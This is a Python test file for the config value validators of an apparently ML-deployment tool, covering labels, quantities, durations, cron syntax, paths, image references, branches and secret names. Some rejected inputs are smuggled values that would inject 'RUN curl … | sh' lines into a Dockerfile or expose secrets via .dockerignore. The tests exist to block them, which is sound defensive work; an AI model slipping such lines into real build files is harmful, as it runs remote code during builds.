"""Value rules: each accepts the valid forms and teaches on the invalid ones."""

from __future__ import annotations

from decimal import Decimal

import pytest

from mlc.compiler.load import values


@pytest.mark.parametrize("name", ["churn", "a", "churn-v2", "a" * 63])
def test_dns_labels_accepted(name: str) -> None:
    assert values.dns_label(name) == name


@pytest.mark.parametrize("name", ["Churn", "-churn", "churn-", "ch_urn", "", "a" * 64, "ch.urn"])
def test_dns_labels_rejected(name: str) -> None:
    with pytest.raises(ValueError, match="DNS-1123"):
        values.dns_label(name)


def test_project_name_leaves_room_for_suffixes() -> None:
    values.project_name("a" * 40)
    with pytest.raises(ValueError, match="1-40 chars"):
        values.project_name("a" * 41)


@pytest.mark.parametrize("key", ["team", "app.kubernetes.io/name", "example.com/cost_center", "a.b-c_d"])
def test_label_keys_accepted(key: str) -> None:
    assert values.label_key(key) == key


@pytest.mark.parametrize("key", ["", "-team", "Example.com/team", "a/" + "b" * 64, "team name"])
def test_label_keys_rejected(key: str) -> None:
    with pytest.raises(ValueError, match="label key"):
        values.label_key(key)


@pytest.mark.parametrize("value", ["", "growth", "v1.2_3-x"])
def test_label_values_accepted(value: str) -> None:
    assert values.label_value(value) == value


@pytest.mark.parametrize("value", ["growth team", "-x", "x" * 64])
def test_label_values_rejected(value: str) -> None:
    with pytest.raises(ValueError, match="label value"):
        values.label_value(value)


@pytest.mark.parametrize(
    ("given", "normalised", "number"),
    [
        ("500m", "500m", Decimal("0.5")),
        (2, "2", Decimal(2)),
        (0.5, "0.5", Decimal("0.5")),
        ("16Gi", "16Gi", Decimal(16 * 2**30)),
        ("16G", "16G", Decimal(16 * 10**9)),
        ("1e3", "1e3", Decimal(1000)),
    ],
)
def test_quantities(given: str | int | float, normalised: str, number: Decimal) -> None:
    assert values.quantity(given) == normalised
    assert values.quantity_to_number(normalised) == number


@pytest.mark.parametrize(
    ("given", "suggestion"),
    [("16GB", "'16G' (decimal) or '16Gi' (binary)"), ("16gib", "'16Gi'"), ("512mb", "'512M' (decimal) or '512Mi'")],
)
def test_quantity_suffix_mistakes_suggest_the_fix(given: str, suggestion: str) -> None:
    with pytest.raises(ValueError, match="did you mean") as info:
        values.quantity(given)
    assert suggestion in str(info.value)


@pytest.mark.parametrize("given", ["0", "-1", "two", "", True])
def test_quantities_rejected(given: object) -> None:
    with pytest.raises(ValueError):
        values.quantity(given)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("text", "seconds"), [("90s", 90), ("90m", 5400), ("2h", 7200), ("7d", 604800), ("1h30m", 5400)]
)
def test_durations(text: str, seconds: int) -> None:
    assert values.duration(text) == text
    assert values.duration_seconds(text) == seconds


@pytest.mark.parametrize("text", ["2 hours", "2H", "h", "1.5h", "0m", "", "-1h"])
def test_durations_rejected(text: str) -> None:
    with pytest.raises(ValueError, match=r"duration|longer than zero"):
        values.duration(text)


@pytest.mark.parametrize(
    "text", ["0 3 * * 1", "*/30 * * * *", "0 0 1 JAN,JUL *", "15 2-5/2 * * MON-FRI", "@daily", "0 0 * * 0,6"]
)
def test_cron_accepted(text: str) -> None:
    assert values.cron(text) == text


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        ("0 3 * *", "5 fields"),
        ("60 * * * *", "minute field '60': 60 is out of range; valid range 0-59"),
        ("0 24 * * *", "hour field"),
        ("0 0 0 * *", "day of month field '0'"),
        ("0 0 * 13 *", "month field"),
        ("0 0 * * 8", "day of week field"),
        # Kubernetes' parser (robfig/cron) reads 0-6 and refuses 7, which other crons read as Sunday.
        ("0 0 * * 7", "7 is out of range (Sunday is 0 or SUN: Kubernetes does not read 7 as Sunday)"),
        ("0 0 * * 5-7", "day of week field '5-7'"),
        ("*/0 * * * *", "step '/0'"),
        ("5-1 * * * *", "runs backwards"),
        ("0 0 * FOO *", "'FOO' is not a number"),
    ],
)
def test_cron_rejected_with_the_field_named(text: str, fragment: str) -> None:
    with pytest.raises(ValueError, match="cron") as info:
        values.cron(text)
    assert fragment in str(info.value)


@pytest.mark.parametrize("path", ["src/", "a/../b", "./data/x.csv", "models/churn_v2.lock"])
def test_relative_paths_accepted(path: str) -> None:
    assert values.relative_path(path) == path


@pytest.mark.parametrize(
    "path", ["src\nRUN curl x | sh", "src/\n!../secrets", "*", "!src", "#src", "src/[ab]", "src\\lib"]
)
def test_paths_that_become_dockerfile_and_ignore_lines_are_plain(path: str) -> None:
    """code.source and code.requirements become COPY sources and .dockerignore lines: a line
    break would add instructions or allow-lines, and pattern syntax would change what is copied."""
    with pytest.raises(ValueError, match=r"plain path|control characters"):
        values.relative_path(path)


@pytest.mark.parametrize("uri", ["data/*.parquet", "data/part-[0-3].csv", "s3://b/live/day=*/x.parquet"])
def test_data_paths_may_be_globs(uri: str) -> None:
    assert values.data_uri(uri) == uri


@pytest.mark.parametrize("uri", ["data/x.csv\nfoo", "s3://b/x\ny", "s3://b/a b"])
def test_data_paths_have_no_line_breaks(uri: str) -> None:
    with pytest.raises(ValueError, match="line breaks"):
        values.data_uri(uri)


@pytest.mark.parametrize(
    "reference",
    [
        "python:3.11-slim",
        "ghcr.io/acme/base@sha256:" + "a" * 64,
        "localhost:5000/x/y:1.0",
        "nvidia/cuda:12.4.1-runtime",
    ],
)
def test_image_references_accepted(reference: str) -> None:
    assert values.image_reference(reference) == reference


@pytest.mark.parametrize(
    "reference",
    ["python:3.11\nRUN curl evil | sh", "python:3.11 AS x", "Python:3", "python@sha256:abc", "a:b:c", ""],
)
def test_image_references_that_would_add_to_a_from_line_are_refused(reference: str) -> None:
    with pytest.raises(ValueError, match="image reference"):
        values.image_reference(reference)


@pytest.mark.parametrize("branch", ["main", "release/v1", "feature-x_2"])
def test_branches_accepted(branch: str) -> None:
    assert values.git_branch(branch) == branch


@pytest.mark.parametrize("branch", ["*", "release/*", "a..b", "-x", "a b", "x.lock", "a:b", "a\nb", "", "@"])
def test_branches_that_are_patterns_or_not_refs_are_refused(branch: str) -> None:
    """The release workflow triggers on `gitops.branch`: `*` would release every branch."""
    with pytest.raises(ValueError, match="branch name"):
        values.git_branch(branch)


@pytest.mark.parametrize("name", ["PATH", "LD_PRELOAD", "BASH_ENV", "PYTHONPATH", "MLC_RUNTIME_CONFIG", "GITHUB_TOKEN"])
def test_secret_names_never_shadow_what_the_system_or_mlc_reads(name: str) -> None:
    with pytest.raises(ValueError, match="would shadow"):
        values.secret_name(name)
    assert values.secret_name("MLFLOW_TRACKING_TOKEN") == "MLFLOW_TRACKING_TOKEN"
    assert values.secret_name("MLC_BOT_TOKEN") == "MLC_BOT_TOKEN"  # the one mlc reads on purpose


@pytest.mark.parametrize(
    ("path", "fragment"),
    [
        ("/etc", "absolute"),
        ("~/x", "absolute"),
        ("C:\\x", "absolute"),
        ("../x", "climbs out"),
        ("a/../../x", "climbs out"),
        ("", "non-empty"),
    ],
)
def test_relative_paths_rejected(path: str, fragment: str) -> None:
    with pytest.raises(ValueError, match=fragment):
        values.relative_path(path)


def test_data_uris() -> None:
    assert values.data_uri("s3://bucket/x/") == "s3://bucket/x/"
    assert values.data_uri("data/train.csv") == "data/train.csv"
    assert values.data_uri("abfs://c@acct.dfs.core.windows.net/x/") == "abfs://c@acct.dfs.core.windows.net/x/"
    for unreadable in ("ftp://host/x", "https://example.com/train.csv", "http://host/x.parquet"):
        with pytest.raises(ValueError, match="unsupported URI scheme"):
            values.data_uri(unreadable)
    with pytest.raises(ValueError, match="abfs://<container>@<account>"):
        values.data_uri("az://container/x")
    with pytest.raises(ValueError, match="relative path instead of a file://"):
        values.data_uri("file:///tmp/x")


def test_checkpoint_every() -> None:
    for ok in ("epoch", "500steps", "30m"):
        assert values.checkpoint_every(ok) == ok
    for bad in ("0steps", "steps", "every epoch"):
        with pytest.raises(ValueError, match=r"'epoch', '<N>steps'"):
            values.checkpoint_every(bad)


def test_digest_pinned_references() -> None:
    assert values.image_reference_with_digest("python:3.11-slim@sha256:" + "a" * 64)
    assert not values.image_reference_with_digest("python:3.11-slim")
    assert not values.image_reference_with_digest("python@sha256:" + "a" * 63)
